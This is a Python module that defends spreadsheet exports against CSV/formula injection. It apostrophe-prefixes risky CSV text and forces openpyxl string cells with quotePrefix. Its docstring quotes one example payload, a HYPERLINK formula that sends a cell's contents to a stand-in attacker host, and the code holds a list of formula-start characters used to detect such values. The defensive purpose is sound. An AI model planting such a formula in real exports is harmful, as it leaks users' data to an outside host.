"""Cells that spreadsheets show and never evaluate: every CSV and XLSX the system writes.

Admins open exports in Excel or LibreOffice and send them on to the ministry, so a title such as
``=HYPERLINK("https://evil.example/?"&B2,"Lihat bukti")`` must stay text (CSV/formula injection,
OWASP). A text value is *dangerous* when it begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return: the characters with which a spreadsheet starts a formula (or DDE call).

- XLSX: the value is written unchanged as a string cell (never a formula cell ``<f>``), and a
  dangerous one also gets the ``quotePrefix`` style, so the program shows it literally and keeps
  it text even when the cell is edited. Nothing is added to the value.
- CSV has no types: a dangerous value gets a leading apostrophe (the OWASP convention), which
  Excel and LibreOffice hide on display and which tells a reader the text was neutralised.
  Numbers are written as numbers (a negative amount is not text and is not touched).

Both are pure functions of the value, so an export stays byte-identical on every download.
"""

from __future__ import annotations

from collections.abc import Iterable
from datetime import date
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(value: str) -> bool:
    """Would a spreadsheet read this text as the start of a formula?"""
    return value.startswith(FORMULA_STARTS)


def csv_text(value: str) -> str:
    """A text value as a CSV field: dangerous ones prefixed with ``'``."""
    return "'" + value if dangerous(value) else value


def csv_cell(value: Any) -> str:
    """Any value as a CSV field: None empty, dates ISO 8601, text neutralised, numbers as is."""
    if value is None:
        return ""
    if isinstance(value, str):
        return csv_text(value)
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def xlsx_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """openpyxl cells for ``sheet.append``: every text value a string cell, never a formula or an
    error cell; dangerous text also quote-prefixed (shown and kept as text)."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = Cell(sheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error otherwise
            if dangerous(value):
                cell.quotePrefix = True
        cells.append(cell)
    return cells
